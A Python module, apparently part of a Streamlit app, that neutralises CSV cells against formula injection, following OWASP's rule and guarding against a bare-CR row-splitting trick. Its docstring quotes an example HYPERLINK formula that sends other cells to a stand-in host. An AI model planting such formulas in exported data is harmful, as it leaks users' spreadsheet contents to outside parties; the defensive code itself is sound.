"""CSV cells that a spreadsheet will not run as formulas (CSV injection).

A member named `=HYPERLINK("http://host/leak?x="&A1, "x")` becomes a live
formula when a CSV holding that name is opened in Excel, LibreOffice or Google
Sheets: it can send the sheet's other cells to that host. OWASP's rule (CSV
Injection cheat sheet): a text cell that starts with `=`, `+`, `-`, `@`, a tab
or a carriage return gets a single quote in front, which spreadsheets show as
text and do not evaluate.

A line break inside a cell is a second way in: pandas' writer (and the CSV
that `st.dataframe`'s toolbar writes) quotes a cell holding `\n` but not one
holding a bare `\r`, so `ok\r=HYPERLINK(...)` was written unquoted and every
spreadsheet and `csv.reader` started a new row at the `\r` with a live
formula. So every line break (CRLF, CR or LF) in a text cell becomes one LF,
which every writer quotes, and each line after a break that starts with a
trigger gets its own quote: even a reader that splits lines inside quotes
never meets a formula at the start of a line.

Only text cells are touched: numbers stay numbers (a negative count is a
number, not a formula, and must still add up in the sheet).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:  # pandas is imported where a frame is written: `safe_rows` needs none
    import pandas as pd

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTE: Final = "'"
# CRLF first, so it counts as one break, not two.
LINE_BREAK: Final = re.compile(r"\r\n|\r|\n")
# A line (after a break) that a spreadsheet would run: it starts with a trigger.
_FORMULA_LINE: Final = re.compile(r"\n(?=[=+\-@\t])")


def neutralise_cell(value: object) -> object:
    """`value` as a CSV cell no spreadsheet evaluates; anything but text is unchanged.

    Text: every line break (CRLF, CR, LF) becomes LF; the cell, if it starts
    with a trigger (`FORMULA_TRIGGERS`), and every line after a break that
    does, get a leading single quote. E.g. `"ok\r=SUM(A1)"` -> `"ok\n'=SUM(A1)"`.
    """
    if not isinstance(value, str):
        return value
    text = LINE_BREAK.sub("\n", value)
    text = _FORMULA_LINE.sub("\n" + QUOTE, text)
    return QUOTE + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (and column names) are neutralised.

    Numeric, boolean and date columns are left as they are, dtype included.
    """
    import pandas as pd  # only the pages that draw frames pay for it (the chat page does not)

    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(neutralise_cell)
    safe.columns = [neutralise_cell(name) for name in safe.columns]
    return safe


def safe_rows(rows: Iterable[Mapping[str, object]]) -> list[dict[str, object]]:
    """Table rows (e.g. for `st.dataframe`, whose toolbar writes a CSV) with
    every text cell neutralised; numbers untouched."""
    return [{key: neutralise_cell(value) for key, value in row.items()} for row in rows]


def csv_bytes(frame: pd.DataFrame, *, date_format: str = "%Y-%m-%d") -> bytes:
    """`frame` as UTF-8 CSV (header row, no index) with every text cell neutralised.

    The one way the app writes a CSV: use it for every download. A text cell
    holding a line break is quoted (`neutralise_cell` leaves only LF breaks,
    which the writer quotes), so each record is one row in every reader.
    """
    text: str = safe_frame(frame).to_csv(index=False, date_format=date_format)
    return text.encode("utf-8")
